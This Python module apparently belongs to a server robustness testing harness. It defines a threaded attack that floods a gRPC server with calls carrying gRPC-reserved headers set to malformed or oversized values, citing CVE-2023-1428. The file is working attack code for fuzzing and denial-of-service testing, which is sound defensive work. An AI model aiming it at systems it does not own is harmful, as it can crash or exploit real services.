"""Headers of gRPC's own, with values that no client sends (CVE-2023-1428 among them)."""

import time

import http2
from attack import Attack, in_threads
from guard import STRANGER

# Keys that gRPC parses by itself (src/core/lib/transport/metadata_batch.h).
KEYS = (b"te", b":scheme", b":method", b":path", b":authority", b":status", b"host",
        b"content-type", b"user-agent", b"grpc-encoding", b"grpc-accept-encoding",
        b"grpc-internal-encoding-request", b"grpc-status", b"grpc-message", b"grpc-timeout",
        b"grpc-previous-rpc-attempts", b"grpc-retry-pushback-ms", b"grpclb_client_stats",
        b"lb-token", b"lb-cost-bin", b"endpoint-load-metrics-bin", b"grpc-server-stats-bin",
        b"grpc-trace-bin", b"grpc-tags-bin")
VALUES = (b"", b"x", b"-1", b"99999999999999999999", b"gzip, identity", b"AAAA", b"!",
          b"\xff\xfe", b"v" * 300)
LARGE = [(b"x-%d" % i, b"v" * 4900) for i in range(3)]  # together with the others, one frame
CALLS = 20  # a connection, at most


def odd_headers(target, outcome):
    """Calls with such headers at their begin, and at their end."""
    def work(target, outcome, worker):
        rng = target.rng(worker)
        while target.left() > 0:
            try:
                connection = http2.Connection(target.attacker())
            except OSError:
                outcome.count("connections refused")
                time.sleep(0.1)
                continue
            for _ in range(CALLS):
                extra = [(rng.choice(KEYS), rng.choice(VALUES)) for _ in range(rng.randint(1, 3))]
                if rng.random() < 0.2:  # beyond what a call may have
                    extra += LARGE
                stream = connection.open("GetServerInfo", extra)
                block = http2.field(rng.choice(KEYS), rng.choice(VALUES))
                sent = connection.send(http2.frame(
                    http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block))
                outcome.count("calls")
                if not sent or target.left() <= 0:
                    break
                for _ in connection.frames(0):
                    pass
            connection.close()

    in_threads(2, work, target, outcome)


ATTACKS = [
    Attack("odd-headers", "headers of gRPC's own with odd values", odd_headers,
           by=(STRANGER, "call")),
]
